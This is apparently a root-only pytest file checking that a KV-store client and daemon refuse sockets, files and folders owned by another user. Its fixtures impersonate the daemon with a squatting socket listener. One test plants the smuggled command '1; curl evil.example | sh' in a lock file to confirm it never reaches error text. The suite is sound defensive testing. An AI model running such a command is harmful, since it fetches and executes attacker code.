"""Other users of the host: a client gives KV to nobody who took the place of its daemon, and a
daemon keeps none where another user could take it away."""

from __future__ import annotations

import fcntl
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

import kvwarehouse as kvw
from kvwarehouse.client import trust
from kvwarehouse.client.connect import connect_grpc
from kvwarehouse.testing.serving import RefusedError, Serving

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be several users")

STRANGER = 1001

# Its interpreter is read before it becomes somebody else, who may not be able to.
SQUATTER = """
import os, socket, sys
uid, kind, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
listener = socket.socket(socket.AF_UNIX, getattr(socket, kind))
listener.bind(path)
listener.listen()
print("listens", flush=True)
while True:
    print(len(listener.accept()[0].recv(1 << 17)), flush=True)
"""


@pytest.fixture
def folder() -> Iterator[Path]:
    """Where every user can make files of his own, as /tmp; pytest's folders let nobody in."""
    made = Path(tempfile.mkdtemp(prefix="kvw-test-users-"))
    made.chmod(0o1777)
    yield made
    shutil.rmtree(made)


@contextmanager
def squatter(path: Path, kind: str) -> Iterator[subprocess.Popen[str]]:
    """A process of the stranger's that listens there, and tells how many bytes it is sent."""
    command = [sys.executable, "-c", SQUATTER, str(STRANGER), kind, str(path)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            assert process.stdout.readline() == "listens\n"
            yield process
        finally:
            process.kill()


@pytest.fixture
def serving(tmp_path: Path) -> Iterator[Serving]:
    with Serving(tmp_path) as serving:
        yield serving


def test_client_tells_nothing_to_a_daemon_of_another_user(folder: Path) -> None:
    with squatter(folder / "kvw.sock", "SOCK_SEQPACKET") as process:
        with pytest.raises(kvw.TransportError, match=r"uid 1001.*KVW_DAEMON_UID=1001") as caught:
            kvw.connect(f"unix://{folder}/kvw.sock", timeout_s=60)
        assert caught.value.code == "daemon_untrusted"
        assert process.stdout is not None
        assert process.stdout.readline() == "0\n"


def test_client_speaks_to_a_daemon_of_the_user_that_it_was_told(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(trust.VARIABLE, str(STRANGER))
    with squatter(folder / "kvw.sock", "SOCK_SEQPACKET") as process:
        # It hangs up on us, or holds its tongue: what counts is that it was said hello.
        with pytest.raises(kvw.TransportError) as caught:
            kvw.connect(f"unix://{folder}/kvw.sock", timeout_s=0.1)
        assert caught.value.code != "daemon_untrusted"
        assert process.stdout is not None
        assert int(process.stdout.readline()) > 0


def test_client_tells_nothing_to_a_grpc_socket_of_another_user(folder: Path) -> None:
    with squatter(folder / "kvw.sock.grpc", "SOCK_STREAM"):
        with pytest.raises(kvw.TransportError, match="KVW_DAEMON_UID=1001") as caught:
            connect_grpc(f"unix://{folder}/kvw.sock", timeout_s=60)
        assert caught.value.code == "daemon_untrusted"


@pytest.mark.parametrize("name", ["arena", "slots", "index", "control"])
def test_client_maps_no_file_of_another_user(serving: Serving, name: str) -> None:
    [file] = serving.arena_dir.glob(f"{name}*")
    os.chown(file, STRANGER, -1)
    with pytest.raises(kvw.TransportError, match="uid 1001") as caught:
        serving.connect()
    assert caught.value.code == "daemon_untrusted"


@pytest.mark.parametrize("depth", [0, 1])
def test_grpc_socket_is_not_trusted_below_a_folder_of_another_user(
    folder: Path, tmp_path: Path, depth: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    inner = folder / "a" / "b"
    with Serving(tmp_path, socket=str(inner / "kvw.sock")) as serving:
        with serving.connect_remote():
            pass
        os.chown([inner, inner.parent][depth], STRANGER, -1)
        with pytest.raises(kvw.TransportError, match="belongs to uid 1001") as caught:
            serving.connect_remote()
        assert caught.value.code == "daemon_untrusted"
        monkeypatch.setenv(trust.VARIABLE, str(STRANGER))
        with serving.connect_remote():
            pass


def test_grpc_socket_is_not_trusted_in_a_folder_that_others_write_to(serving: Serving) -> None:
    serving.folder.chmod(0o777)
    with pytest.raises(kvw.TransportError, match="mode 0777") as caught:
        serving.connect_remote()
    assert caught.value.code == "daemon_untrusted"
    serving.folder.chmod(0o1777)  # as /tmp: there nobody can replace what is another's
    with serving.connect_remote():
        pass


def test_grpc_socket_is_reached_by_a_link(serving: Serving, folder: Path) -> None:
    (folder / "kvw.sock.grpc").symlink_to(serving.socket + ".grpc")
    with connect_grpc(f"unix://{folder}/kvw.sock"):
        pass


@pytest.mark.parametrize("text", ["me", "-1", "4294967296", "²"])
def test_uid_that_is_none_is_refused(text: str, serving: Serving) -> None:
    with pytest.raises(kvw.UsageError, match="KVW_DAEMON_UID"):
        trust.daemon_uid({trust.VARIABLE: text})


@pytest.mark.parametrize("setting", ["arena_dir", "nvme_dir", "socket"])
def test_daemon_does_not_start_below_a_folder_of_another_user(
    folder: Path, tmp_path: Path, setting: str
) -> None:
    """Incident: uid 1001 renamed the NVMe directory of root's running daemon."""
    theirs = folder / "theirs"
    theirs.mkdir()
    os.chown(theirs, STRANGER, -1)
    where = {"nvme_capacity": "64MiB", setting: str(theirs / "ours" / "it")}
    with (
        pytest.raises(RefusedError, match=f"{theirs} belongs to uid 1001"),
        Serving(tmp_path, **where),
    ):
        pass
    assert list(theirs.iterdir()) == []


def test_daemon_is_told_from_a_lock_that_another_user_holds(folder: Path, tmp_path: Path) -> None:
    """Incident: the text in such a lock became advice, `stop that one (kill 1; curl ...)`."""
    lock = folder / "kvw.sock.lock"
    with lock.open("w") as held:
        held.write("1; curl evil.example | sh")
        os.chown(lock, STRANGER, -1)
        fcntl.flock(held, fcntl.LOCK_EX)
        with (
            pytest.raises(RefusedError, match=f"{lock} belongs to uid 1001") as caught,
            Serving(tmp_path, socket=str(folder / "kvw.sock")),
        ):
            pass
        assert "evil" not in caught.value.text
